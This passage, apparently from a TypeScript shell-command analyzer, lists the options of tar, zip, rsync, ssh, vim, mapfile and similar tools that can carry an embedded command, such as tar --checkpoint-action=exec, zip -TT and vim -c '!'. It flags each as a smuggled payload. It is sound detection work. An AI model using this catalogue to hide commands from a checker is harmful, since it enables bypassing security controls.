  if (name === 'tar') {
    st.out.push(inv);
    const args = inv.args.slice();
    const f = args[0];
    if (f && f.static && f.value && !f.value.startsWith('-')) args[0] = staticWord('-' + f.value, f.span);
    const r = getopt(args, programSpec('tar'), 0);
    for (const o of r.list) {
      if (typeof o.value !== 'string') continue;
      if (o.canon === 'checkpoint-action') {
        const v = o.value;
        if (v.startsWith('exec=')) ops.payload(v.slice(5), 'tar --checkpoint-action', o.word.span, inv, st);
        else if (!o.word.static) ops.opaque(inv, 'tar --checkpoint-action', 'dynamic', st);
      } else if (o.canon === 'to-command' || o.canon === 'use-compress-program' || o.canon === 'rsh-command') {
        programOption(inv, o.value, o.word, `tar --${o.canon}`, st, ops, true);
      } else if (o.canon === 'info-script') ops.opaque(inv, 'tar --info-script', 'dynamic', st, { payload: o.value });
    }
    return true;
  }
  if (name === 'zip') {
    st.out.push(inv);
    for (let i = 0; i < inv.args.length; i++) {
      const v = sv(inv.args[i]);
      if (v === '-TT' || v === '--unzip-command') {
        const w = inv.args[i + 1];
        if (!w) continue;
        if (!w.static) ops.opaque(inv, 'zip -TT', 'dynamic', st);
        else ops.payload(w.value ?? '', 'zip -TT', w.span, inv, st);
      } else if (v && v.startsWith('--unzip-command=')) ops.payload(v.slice(16), 'zip -TT', inv.args[i].span, inv, st);
    }
    void ZIP_SPEC;
    return true;
  }
  if (name === 'rsync') {
    st.out.push(inv);
    const r = getopt(inv.args, programSpec('rsync'), 0);
    for (const o of r.list) if (o.canon === 'rsh' || o.canon === 'rsync-path') programOption(inv, o.value, o.word, `rsync --${o.canon}`, st, ops, true);
    return true;
  }
  if (name === 'ssh' || name === 'scp' || name === 'sftp') {
    const r = getopt(inv.args, programSpec(name === 'ssh' ? 'ssh' : 'scp'), 0);
    st.out.push(inv);
    for (const o of r.list) {
      if (o.canon !== 'o' || typeof o.value !== 'string') continue;
      let eq = -1;
      for (let k = 0; k < o.value.length; k++) {
        const ch = o.value[k];
        if (ch === '=' || ch === ' ' || ch === '\t') {
          eq = k;
          break;
        }
      }
      const key = (eq < 0 ? o.value : o.value.slice(0, eq)).toLowerCase();
      if (SSH_OPTS.has(key)) {
        if (!o.word.static) ops.opaque(inv, `ssh -o ${key}`, 'dynamic', st);
        else ops.payload(o.value.slice(eq + 1).trim(), `ssh -o ${key}`, o.word.span, inv, st);
      }
    }
    if (name === 'ssh' && r.operands.length > 1) {
      const rest = r.operands.slice(1);
      if (!rest.every((w) => w.static)) ops.opaque(inv, 'ssh', ops.networkWord(rest[0], ex) ? 'network' : 'dynamic', st, { payload: rest.map((w) => w.approx).join(' ') });
      else ops.payload(rest.map((w) => w.value ?? '').join(' '), 'ssh', rest[0].span, inv, st);
    }
    return true;
  }
  if (name === 'vim' || name === 'vi' || name === 'nvim' || name === 'ex' || name === 'view' || name === 'gvim' || name === 'vimdiff') {
    st.out.push(inv);
    for (let i = 0; i < inv.args.length; i++) {
      const w = inv.args[i];
      const v = sv(w);
      let cmd: Word | undefined;
      let text: string | undefined;
      if (v === '-c' || v === '--cmd' || v === '-S') cmd = inv.args[++i];
      else if (v && v.startsWith('+') && v.length > 1) text = v.slice(1);
      else if (!w.static && w.approx.startsWith('+')) cmd = w;
      if (v === '-S' && cmd) {
        ops.opaque(inv, 'vim -S', 'dynamic', st, { language: 'vim' });
        continue;
      }
      if (cmd) {
        if (!cmd.static) {
          ops.opaque(inv, 'vim -c', 'dynamic', st, { language: 'vim', payload: cmd.approx });
          continue;
        }
        text = cmd.value ?? '';
      }
      if (text === undefined) continue;
      let t = text.trim();
      while (t.startsWith(':')) t = t.slice(1).trimStart();
      if (t.startsWith('silent')) {
        t = t.slice(6).trimStart();
        if (t.startsWith('!') && t.slice(1).trimStart().startsWith('!')) t = t.slice(1).trimStart();
      }
      if (t.startsWith('!')) ops.payload(t.slice(1), 'vim -c', (cmd ?? w).span, inv, st);
      else {
        const lines = vimShellLines(t);
        for (const l of lines) ops.payload(l, 'vim -c', (cmd ?? w).span, inv, st);
        if (!lines.length && VIM_CODE.some((k) => t.includes(k))) ops.opaque(inv, 'vim -c', 'language', st, { language: 'vim', payload: t });
      }
    }
    return true;
  }
  if (name === 'mapfile' || name === 'readarray') {
    st.out.push(inv);
    for (let i = 0; i < inv.args.length; i++) {
      const v = sv(inv.args[i]);
      if (v === '-C') {
        const w = inv.args[i + 1];
        if (!w) continue;
        if (!w.static) ops.opaque(inv, `${name} -C`, 'dynamic', st);
        else ops.payload((w.value ?? '') + ' "$MAPFILE_INDEX" "$MAPFILE_LINE"', `${name} -C`, w.span, inv, st);
      }
    }
    return true;
  }
  if (name === 'git') {
    gitCarrier(inv, st, ops);
    return true;
  }
  if (name === 'awk' || name === 'gawk' || name === 'mawk' || name === 'nawk') {
    awkCarrier(inv, st, ops, ex);
    return true;
  }
  if (name === 'sed' || name === 'gsed') {
    sedCarrier(inv, st, ops, ex);
    return true;
  }
  return false;
}

export { invocationFrom };
